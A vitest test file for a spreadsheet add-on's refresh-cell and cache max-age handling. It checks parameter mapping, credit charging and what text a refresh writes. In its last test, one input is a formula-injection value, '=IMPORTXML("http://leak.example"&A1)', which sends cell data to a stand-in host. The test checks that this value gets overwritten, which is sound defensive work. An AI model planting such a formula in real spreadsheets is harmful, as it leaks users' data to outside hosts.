import { expect, test } from 'vitest';
import { maxAgeParameter, refreshedText } from '../../../addon/formulas/max-age.ts';
import { people, setKey, setUpAddon } from '../spreadsheet-setup.ts';

const setup = setUpAddon();
const [ada = '', ben = ''] = Object.keys(people);
const nowMs = Date.UTC(2026, 10, 20, 10);
const minuteMs = 60_000;

async function openWithRefreshCell() {
  const file = await setup.open();
  setKey(file);
  file.select('H1');
  file.answer({ button: 'OK' });
  file.call('refresh_');
  return file;
}

async function charged(): Promise<number> {
  return (await setup.api.log()).credits_charged;
}

test('Refresh makes the selected empty cell the refresh cell, as text, and overwrites no other cell', async () => {
  const file = await setup.open();
  file.type('H1', 'mine');
  file.select('H1');
  file.answer({ button: 'OK' });
  file.call('refresh_');
  expect(file.values('H1')).toEqual([['mine']]);
  file.select('H2');
  file.answer({ button: 'CANCEL' }, { button: 'OK' });
  file.call('refresh_');
  expect(file.values('H2')).toEqual([['']]);
  file.call('refresh_');
  expect(file.sheet().H2).toEqual({ type: 'text', value: 'fresh 2026-11-20T10:00:00.000Z' });
});

test('Refresh gets new data only for formulas that use the refresh cell', async () => {
  const file = await openWithRefreshCell();
  file.type('A1', ada, ben);
  file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
  file.type('B2', '=SOCIAL_PROFILE(A2, "followers,credits_charged")');
  expect(await charged()).toBe(2);
  file.pass(minuteMs);
  file.call('refresh_');
  expect(await charged()).toBe(3);
  expect((await setup.api.log()).requests.at(-1)?.parameters).toMatchObject({
    url: [ada],
    fresh: ['true'],
    cache_max_age: [],
  });
});

test('reopening a file after a refresh costs nothing', async () => {
  const file = await openWithRefreshCell();
  file.type('A1', ada);
  file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
  expect(file.values('D1')).toEqual([[1]]);
  file.pass(3 * minuteMs);
  file.reopen();
  expect(file.values('D1')).toEqual([[0]]);
  expect(await charged()).toBe(1);
});

test('a max_age of 7d in the refresh cell stays after a refresh, which replaces only data older than seven days', async () => {
  const file = await openWithRefreshCell();
  file.type('A1', ada);
  file.type('H1', '7d');
  file.type('B1', '=SOCIAL_PROFILE(A1, "followers", SOCIAL_REFRESH)');
  file.pass(minuteMs);
  const before = (await setup.api.log()).requests.length;
  file.call('refresh_');
  expect(file.values('H1')).toEqual([['7d 2026-11-20T10:01:00.000Z']]);
  expect((await setup.api.log()).requests).toHaveLength(before);
  file.pass(8 * 24 * 60 * minuteMs);
  file.call('refresh_');
  const { requests } = await setup.api.log();
  expect(requests.slice(before).map(({ parameters }) => parameters.cache_max_age)).toEqual([['7d']]);
});

test.each([
  ['', 'cache_max_age=1d'],
  [undefined, 'cache_max_age=1d'],
  [true, 'cache_max_age=1d'],
  [new Date(nowMs), 'cache_max_age=1d'],
  [' 14D ', 'cache_max_age=14d'],
  ['fresh', 'fresh=true'],
  [`fresh ${new Date(nowMs - minuteMs).toISOString()}`, 'fresh=true'],
  [`fresh ${new Date(nowMs - 3 * minuteMs).toISOString()}`, 'cache_max_age=1d'],
  [`fresh ${new Date(nowMs + minuteMs).toISOString()}`, 'cache_max_age=1d'],
  ['fresh whenever', 'cache_max_age=1d'],
])('max_age %s asks for %s', (input, expected) => {
  expect(maxAgeParameter(input, nowMs)).toBe(expected);
});

test('a max_age that is an unknown word or a number is an error in a formula', () => {
  for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => maxAgeParameter(wrong, nowMs)).toThrow('Did you mean');
});

test('a refresh always writes a known word and a time into the refresh cell', () => {
  expect(refreshedText('=IMPORTXML("http://leak.example"&A1)', nowMs)).toBe('fresh 2026-11-20T10:00:00.000Z');
  expect(refreshedText('3d old', nowMs)).toBe('3d 2026-11-20T10:00:00.000Z');
});
